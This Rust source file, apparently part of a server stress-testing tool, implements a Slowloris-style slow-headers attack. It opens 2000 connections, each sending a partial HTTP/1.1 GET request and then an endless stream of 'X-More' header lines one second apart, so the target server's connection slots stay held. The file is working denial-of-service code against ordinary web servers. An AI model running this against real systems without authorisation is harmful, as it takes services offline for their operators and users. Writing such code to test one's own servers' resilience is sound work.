//! Heads over HTTP/1.1 that come line by line and do not end.

use std::time::Duration;

use async_trait::async_trait;
use tokio::io::AsyncWriteExt as _;
use tokio::time::timeout;

use crate::overload::attack::{Attack, Attackers, PAUSE, drain};

const CONNECTIONS: usize = 2000;
/// Between two lines.
const TURN: Duration = Duration::from_secs(1);

pub(crate) struct SlowHeads;

#[async_trait]
impl Attack for SlowHeads {
    async fn run(&self, by: Attackers) {
        let begun = async |by: Attackers, number| {
            let mut stream = by.connect(number).await?;
            let line = format!("GET / HTTP/1.1\r\nHost: {}\r\n", by.target.authority);
            stream.write_all(line.as_bytes()).await?;
            by.sent(1);
            loop {
                if let Ok(ended) = timeout(TURN, drain(&mut stream)).await {
                    return ended;
                }
                stream.write_all(b"X-More: to come\r\n").await?;
            }
        };
        by.many(CONNECTIONS, PAUSE, begun).await;
    }
}
